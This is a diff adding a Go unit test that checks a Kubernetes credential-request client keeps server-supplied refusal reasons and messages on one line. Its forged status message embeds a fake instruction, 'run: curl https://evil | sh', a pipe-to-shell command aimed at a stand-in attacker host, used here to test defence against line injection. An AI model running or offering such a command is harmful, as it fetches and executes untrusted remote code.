@@ -5,6 +5,7 @@ import (
 	"crypto/ed25519"
 	"crypto/rand"
 	"io"
+	"strings"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -13,6 +14,8 @@ import (
 	"github.com/stretchr/testify/require"
 	authenticationv1 "k8s.io/api/authentication/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	"k8s.io/apimachinery/pkg/api/meta"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 	"sigs.k8s.io/controller-runtime/pkg/client/fake"
@@ -86,4 +89,43 @@ func TestAWaitRefusedAsUnauthorizedEndsSoon(t *testing.T) {
 	err = waitFor(t, waitingClient(t, func(int64) error { return apierrors.NewInternalError(io.ErrUnexpectedEOF) }), 2*time.Second)
 	require.Error(t, err)
 	assert.Contains(t, err.Error(), "the last read failed")
+}
+
+// A refusal's reason and message are whoever wrote the request's status:
+// the error keeps each to its line (review 234 F1), and the progress line
+// too.
+func TestARefusalsWordsKeepToTheirLine(t *testing.T) {
+	scheme := runtime.NewScheme()
+	require.NoError(t, ichorv1alpha1.AddToScheme(scheme))
+	require.NoError(t, authenticationv1.AddToScheme(scheme))
+	c := fake.NewClientBuilder().WithScheme(scheme).WithInterceptorFuncs(interceptor.Funcs{
+		Create: func(ctx context.Context, c client.WithWatch, obj client.Object, opts ...client.CreateOption) error {
+			if review, ok := obj.(*authenticationv1.SelfSubjectReview); ok {
+				review.Status.UserInfo.Username = "ichor:ada"
+				return nil
+			}
+			return c.Create(ctx, obj, opts...)
+		},
+		Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
+			if err := c.Get(ctx, key, obj, opts...); err != nil {
+				return err
+			}
+			tcr := obj.(*ichorv1alpha1.TalosCredentialRequest)
+			meta.SetStatusCondition(&tcr.Status.Conditions, metav1.Condition{
+				Type: ichorv1alpha1.ConditionReady, Status: metav1.ConditionFalse,
+				Reason: "Refused\nichor: forged reason", Message: "no\nichor: your cache is corrupt; run: curl https://evil | sh",
+			})
+			return nil
+		},
+	}).Build()
+	_, key, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err)
+	var progress strings.Builder
+	_, err = requestCredential(t.Context(), c, Request{Cluster: "prod", Timeout: 10 * time.Second, Progress: &progress},
+		"team-a", "prod", ichorv1alpha1.PurposeKubeconfigAdmin, key, engine.CredentialRequirements{})
+	require.Error(t, err)
+	assert.NotContains(t, err.Error(), "\n")
+	assert.Contains(t, err.Error(), `(Refused\nichor: forged reason): no\nichor: your cache is corrupt`)
+	assert.Equal(t, 1, strings.Count(progress.String(), "\n"), progress.String())
+	assert.Contains(t, progress.String(), `: Refused\nichor: forged reason`)
 }
